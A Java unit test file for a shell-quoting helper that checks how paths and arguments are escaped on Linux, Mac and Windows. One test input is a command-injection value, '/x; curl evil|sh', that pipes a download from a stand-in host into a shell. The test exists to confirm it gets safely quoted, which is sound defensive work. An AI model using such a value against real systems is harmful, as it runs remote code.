package io.roam.spi;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class OsTest {
    @Test
    void textIsOneWordOfAShell() {
        assertThat(Os.LINUX.quote("/srv/beacon", "<from>")).isEqualTo("/srv/beacon");
        assertThat(Os.MAC.quote("/x; curl evil|sh", "<from>")).isEqualTo("'/x; curl evil|sh'");
        assertThat(Os.LINUX.quote("it's", "<from>")).isEqualTo("'it'\\''s'");
        assertThat(Os.LINUX.quote("--purge", "<from>")).isEqualTo("<from>");
        assertThat(Os.LINUX.quote("x\u202ey", "<from>")).isEqualTo("<from>");
        assertThat(Os.LINUX.quote("x\n", "<from>")).isEqualTo("<from>");
        assertThat(Os.LINUX.quote("", "<from>")).isEqualTo("<from>");
    }

    @Test
    void textIsOneWordOnWindows() {
        assertThat(Os.WINDOWS.quote("C:\\x\\y", "<from>")).isEqualTo("C:\\x\\y");
        assertThat(Os.WINDOWS.quote("C:\\x y", "<from>")).isEqualTo("\"C:\\x y\"");
        assertThat(Os.WINDOWS.quote("C:\\%PATH%", "<from>")).isEqualTo("<from>");
    }
}
